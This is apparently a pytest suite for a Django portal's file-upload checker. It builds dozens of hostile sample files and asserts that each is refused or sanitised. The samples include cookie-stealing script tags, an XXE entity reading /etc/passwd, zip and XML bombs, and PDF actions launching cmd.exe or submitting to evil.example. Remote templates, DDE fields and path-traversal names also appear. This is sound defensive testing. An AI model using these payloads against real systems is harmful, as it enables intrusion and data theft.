"""Sixty hostile files: each is refused for the right reason, or comes out harmless."""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.base import ContentFile
from PIL import Image

from elo_portal.core.files import checking
from elo_portal.core.files.refusals import REASONS, FileRefused
from tests.core.files import samples
from tests.core.files.samples import (
    deflated,
    dictionary,
    docx_file,
    odf_file,
    pdf_file,
    png_file,
    raw_pdf,
    relations,
    with_page,
    with_root,
    with_stream,
    xlsx_file,
    zipped,
)

HTML = b"<!doctype html><script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
MZ = b"MZ\x90\x00" + b"\0" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha">%s]><x>&i;</x>' % b"".join(
    b'<!ENTITY %c "%s">' % (letter, b"&%c;" % (letter - 1) * 10) for letter in b"bcdefghi"
)
OUTSIDE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
JS = dictionary(S="/JavaScript", JS="app.alert(1)")


def png_of(width, height):
    """A picture that says how large it is, and holds nothing."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


def lying_zip():
    """An archive whose table says that a large member is small."""
    content = bytearray(docx_file(add={"word/media/a.txt": b"\0" * 3_000_000}))
    place = content.rindex(b"word/media/a.txt") - 46  # its row in the table at the end
    struct.pack_into("<I", content, place + 24, 100)
    return bytes(content)


def overlapping_zip():
    """Many rows of the table that lead to the same bytes."""
    content = zipped({"[Content_Types].xml": "<x/>", "word/document.xml": b"\0" * 900_000})
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        table = archive.start_dir
    rows, end = content[table:-22], bytearray(content[-22:])
    row = rows[rows.index(b"word/document.xml") - 46 :]
    more = b"".join(row.replace(b"word/document.xml", b"word/document.%03d" % one) for one in range(200))
    struct.pack_into("<HHI", end, 8, 202, 202, len(rows) + len(more))
    return content[:table] + rows + more + bytes(end)


def odf_content(inner):
    return f'<o:document-content xmlns:o="{samples.OFFICE}">{inner}</o:document-content>'


def with_flag_of_encryption():
    content = bytearray(docx_file())
    content[content.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def with_annotation(**entries):
    return with_page(Annots=[dictionary(Type="/Annot", Subtype="/Link", Rect=[], **entries)])


def with_embedded():
    return pdf_file(lambda writer: writer.add_attachment("virus.exe", MZ))


def encrypted_pdf():
    return pdf_file(lambda writer: writer.encrypt("salaisuus", algorithm="AES-256"))


def in_object_stream():
    """A script that stands in a packed stream of objects: not to be seen in the bytes."""
    objects = b"5 0 <</S/JavaScript/JS(app.alert(1))>>"
    packed = zlib.compress(objects)
    stream = (
        b"4 0 obj<</Type/ObjStm/N 1/First 4/Length %d/Filter/FlateDecode>>stream\n%s\nendstream endobj\n"
        % (
            len(packed),
            packed,
        )
    )
    parts = [
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>endobj\n",
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n",
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n",
        stream,
    ]
    written, rows = b"%PDF-1.7\n", [struct.pack(">BIH", 0, 0, 65535)]
    for part in parts:
        rows.append(struct.pack(">BIH", 1, len(written), 0))
        written += part
    rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, len(written), 0)]
    table = zlib.compress(b"".join(rows))
    head = b"6 0 obj<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % len(table)
    return written + head + b"stream\n%s\nendstream endobj\nstartxref\n%d\n%%%%EOF" % (table, len(written))


# name -> (name of the file, its bytes, why it is refused)
REFUSED = {
    # What it says is not what it is
    "html as pdf": ("ohje.pdf", lambda: HTML, "mismatch"),
    "html as png": ("kuva.png", lambda: HTML, "mismatch"),
    "svg as png": ("kuva.png", lambda: SVG, "mismatch"),
    "svg": ("kuva.svg", lambda: SVG, "kind"),
    "html": ("sivu.html", lambda: HTML, "kind"),
    "program as docx": ("ohje.docx", lambda: MZ, "mismatch"),
    "old word as docx": ("ohje.docx", lambda: OLE, "mismatch"),
    "plain zip as docx": ("ohje.docx", lambda: zipped({"a.txt": "a"}), "mismatch"),
    "spreadsheet as docx": ("ohje.docx", xlsx_file, "mismatch"),
    "odt as ods": ("taulukko.ods", odf_file, "mismatch"),
    "odt whose type does not come first": ("ohje.odt", lambda: odf_file(first=False), "mismatch"),
    "document of another root": (
        "ohje.docx",
        lambda: docx_file(add={"word/document.xml": b"<html/>"}),
        "mismatch",
    ),
    "jpeg as png": ("kuva.png", samples.jpeg_file, "mismatch"),
    # Names
    "program with a second extension": ("ohje.pdf.exe", pdf_file, "kind"),
    "turned by a bidi mark": ("ohje\u202efdp.exe", pdf_file, "kind"),
    "no extension": ("ohje", pdf_file, "name"),
    "extension of other letters": ("ohje.рdf", pdf_file, "name"),
    "nul before the extension": ("ohje.exe\0.", pdf_file, "kind"),
    "macro document": ("ohje.docm", docx_file, "kind"),
    # Bombs
    "zip bomb": ("ohje.docx", lambda: docx_file(add={"word/media/a.txt": b"\0" * 60_000_000}), "bomb"),
    "many small bombs": (
        "ohje.docx",
        lambda: docx_file(add={f"word/media/{one}.txt": b"\0" * 900_000 for one in range(80)}),
        "bomb",
    ),
    "too many members": (
        "ohje.docx",
        lambda: docx_file(add={f"word/media/{one}.txt": b"" for one in range(2001)}),
        "bomb",
    ),
    "overlapping members": ("ohje.docx", overlapping_zip, "bomb"),
    "lying about sizes": ("ohje.docx", lying_zip, "broken"),
    "archive inside": ("ohje.docx", lambda: docx_file(add={"word/a.bin": zipped({"b": "c"})}), "embedded"),
    "document inside a document inside": (
        "ohje.docx",
        lambda: docx_file(
            add={"word/embeddings/a.docx": docx_file(add={"word/embeddings/b.docx": docx_file()})}
        ),
        "embedded",
    ),
    "macros inside an embedded sheet": (
        "ohje.docx",
        lambda: docx_file(add={"word/embeddings/a.docx": docx_file(add={"word/vbaProject.bin": OLE})}),
        "active",
    ),
    "picture of a billion points": ("kuva.png", lambda: png_of(40_000, 30_000), "pixels"),
    "picture just too large": ("kuva.png", lambda: png_of(7100, 7100), "pixels"),
    "pdf stream that swells": ("ohje.pdf", lambda: with_stream(deflated(200_000_000)), "bomb"),
    "pdf stream packed twice": (
        "ohje.pdf",
        lambda: with_stream(zlib.compress(deflated(1_000_000)), "/FlateDecode /FlateDecode"),
        "bomb",
    ),
    # XML
    "billion laughs": ("ohje.docx", lambda: docx_file(add={"customXml/item1.xml": LAUGHS}), "active"),
    "entity from outside": ("ohje.docx", lambda: docx_file(add={"customXml/item1.xml": OUTSIDE}), "active"),
    "laughs in odf": ("ohje.odt", lambda: odf_file(content=LAUGHS.decode()), "active"),
    "torn xml": ("ohje.docx", lambda: docx_file(add={"word/document.xml": b"<w:document"}), "broken"),
    # What acts
    "word macros": ("ohje.docx", lambda: docx_file(add={"word/vbaProject.bin": b"x"}), "active"),
    "macro type": (
        "ohje.docx",
        lambda: docx_file(
            add={
                "[Content_Types].xml": b'<Types><Override PartName="/word/document.xml" ContentType='
                b'"application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            }
        ),
        "active",
    ),
    "old macro sheet": ("ohje.docx", lambda: docx_file(add={"xl/macrosheets/sheet1.xml": b"<x/>"}), "active"),
    "activex": ("ohje.docx", lambda: docx_file(add={"word/activeX/activeX1.xml": b"<x/>"}), "active"),
    "ole object": ("ohje.docx", lambda: docx_file(add={"word/embeddings/oleObject1.bin": b"x"}), "active"),
    "program under a harmless name": ("ohje.docx", lambda: docx_file(add={"word/media/a.png": MZ}), "active"),
    "odf basic": ("ohje.odt", lambda: odf_file(add={"Basic/Standard/Module1.xml": "<x/>"}), "active"),
    "odf macro on a click": (
        "ohje.odt",
        lambda: odf_file(content=odf_content('<o:event-listener o:language="ooo:script" o:href="x"/>')),
        "active",
    ),
    "odp click that runs a program": (
        "ohje.odp",
        lambda: odf_file("odp", content=odf_content('<o:event-listener o:action="execute" o:href="x"/>')),
        "active",
    ),
    "slide click that runs a program": (
        "ohje.docx",
        lambda: docx_file(add={"word/a.xml": b'<a action="ppaction://program?file=cmd.exe"/>'}),
        "active",
    ),
    "data exchange in a cut field": (
        "ohje.docx",
        lambda: docx_file(
            add={"word/a.xml": b"<r><instrText>DDE</instrText><t>x</t><instrText>AUTO cmd</instrText></r>"}
        ),
        "active",
    ),
    "page inside": ("ohje.docx", lambda: docx_file(add={"word/afchunk.html": HTML}), "active"),
    # What is fetched from elsewhere
    "template from the web": (
        "ohje.docx",
        lambda: docx_file(
            add={"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/t.dotm")}
        ),
        "remote",
    ),
    "template from a share": (
        "ohje.docx",
        lambda: docx_file(
            add={"word/_rels/settings.xml.rels": relations("attachedTemplate", "file:///\\\\evil\\t.dotm")}
        ),
        "remote",
    ),
    "object from the web": (
        "ohje.docx",
        lambda: docx_file(
            add={"word/_rels/document.xml.rels": relations("oleObject", "https://evil.example/x.html!")}
        ),
        "remote",
    ),
    "picture from the web in odf": (
        "ohje.odt",
        lambda: odf_file(
            content=f'<o:document-content xmlns:o="{samples.OFFICE}" xmlns:x="http://www.w3.org/1999/xlink">'
            '<o:image x:href="http://evil.example/a.png"/></o:document-content>'
        ),
        "remote",
    ),
    # Archives with something round them
    "page before the archive": ("ohje.docx", lambda: HTML + docx_file(), "mismatch"),
    "archive before the archive": ("ohje.docx", lambda: zipped({"a": "b"}) + docx_file(), "hidden"),
    "something behind the archive": ("ohje.docx", lambda: docx_file() + HTML, "hidden"),
    "page as comment of the archive": (
        "ohje.docx",
        lambda: zipped(samples.members_of(docx_file()), comment=HTML),
        "hidden",
    ),
    "path that climbs": ("ohje.docx", lambda: docx_file(add={"../../etc/cron.d/x": b"x"}), "broken"),
    "absolute path": ("ohje.docx", lambda: docx_file(add={"C:\\Windows\\x": b"x"}), "broken"),
    "encrypted member": ("ohje.docx", with_flag_of_encryption, "encrypted"),
    "encrypted odf": ("ohje.odt", lambda: odf_file(manifest="<m:encryption-data/>"), "encrypted"),
    # PDF
    "pdf script": (
        "ohje.pdf",
        lambda: with_root(Names=dictionary(JavaScript=dictionary(Names=["a", JS]))),
        "commands",
    ),
    "pdf script on opening": ("ohje.pdf", lambda: with_root(OpenAction=JS), "commands"),
    "pdf script on a page": ("ohje.pdf", lambda: with_page(AA=dictionary(O=JS)), "commands"),
    "pdf script with an escaped name": (
        "ohje.pdf",
        lambda: raw_pdf(catalogue=b"/OpenAction<</S/J#61vaScr#69pt/J#53(app.alert(1))>>"),
        "commands",
    ),
    "pdf script in a packed stream": ("ohje.pdf", in_object_stream, "commands"),
    "pdf that starts a program": (
        "ohje.pdf",
        lambda: with_annotation(A=dictionary(S="/Launch", F="cmd.exe")),
        "commands",
    ),
    "pdf that sends a form": (
        "ohje.pdf",
        lambda: with_annotation(A=dictionary(S="/SubmitForm", F="https://evil.example/")),
        "commands",
    ),
    "pdf with xfa": ("ohje.pdf", lambda: with_root(AcroForm=dictionary(XFA="x")), "commands"),
    "pdf with a film": ("ohje.pdf", lambda: with_annotation(RichMediaContent=dictionary(a=1)), "commands"),
    "pdf with a file inside": ("ohje.pdf", with_embedded, "embedded"),
    "pdf portfolio": ("ohje.pdf", lambda: with_root(Collection=dictionary(View="/D")), "embedded"),
    "encrypted pdf": ("ohje.pdf", encrypted_pdf, "encrypted"),
    "pdf with an archive behind": ("ohje.pdf", lambda: pdf_file() + zipped({"a": "b"}), "hidden"),
    "pdf with a page before": ("ohje.pdf", lambda: HTML + pdf_file(), "mismatch"),
    "pdf with a page in a comment": (
        "ohje.pdf",
        lambda: pdf_file().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
        "hidden",
    ),
    "pdf of nothing but a header": ("ohje.pdf", lambda: b"%PDF-1.7\n%%EOF", "broken"),
    "torn png": ("kuva.png", lambda: png_file()[:40], "broken"),
    "torn docx": ("ohje.docx", lambda: docx_file()[:-40], "broken"),
}

# name -> (name of the file, its bytes, the name under which it is kept)
HARMLESS = {
    "page behind a picture": ("kuva.png", lambda: png_file() + HTML, "kuva.png"),
    "archive behind a picture": ("kuva.jpg", lambda: samples.jpeg_file() + zipped({"a": HTML}), "kuva.jpg"),
    "script in the comment of a picture": (
        "kuva.jpg",
        lambda: samples.jpeg_file(comment=HTML),
        "kuva.jpg",
    ),
    "bidi mark in the name": ("ohje\u202egnp.png", png_file, "ohjegnp.png"),
    "climbing name": ("../../etc/kuva.png", png_file, "kuva.png"),
    "windows path": ("C:\\Users\\aino\\kuva.png", png_file, "kuva.png"),
    "device": ("CON.png", png_file, "_CON.png"),
    "line end and header": ("kuva\r\nSet-Cookie: a=b.png", png_file, "kuvaSet-Cookie_ a=b.png"),
    "page as name": ('"><script>alert(1)</script>.png', png_file, "script_.png"),
    "two extensions": ("kuva.exe.png", png_file, "kuva_exe.png"),
    "very long name": ("ä" * 5000 + ".png", png_file, "ä" * 100 + ".png"),
    "only dots": ("... .png", png_file, "file.png"),
}


def check(name, content):
    return checking.check(ContentFile(content), name)


def test_there_are_sixty_and_more():
    assert len(REFUSED) + len(HARMLESS) >= 60


@pytest.mark.parametrize("which", REFUSED)
def test_a_hostile_file_is_refused_with_words(which):
    name, make, reason = REFUSED[which]

    with pytest.raises(FileRefused) as refusal:
        check(name, make())

    assert refusal.value.reason == reason
    assert str(refusal.value) == str(REASONS[reason])


@pytest.mark.parametrize("which", HARMLESS)
def test_a_hostile_file_comes_out_harmless(which):
    name, make, kept_as = HARMLESS[which]

    checked = check(name, make())

    assert checked.name == kept_as
    Image.open(io.BytesIO(checked.content)).verify()
    assert b"script" not in checked.content
    assert b"PK\x03\x04" not in checked.content
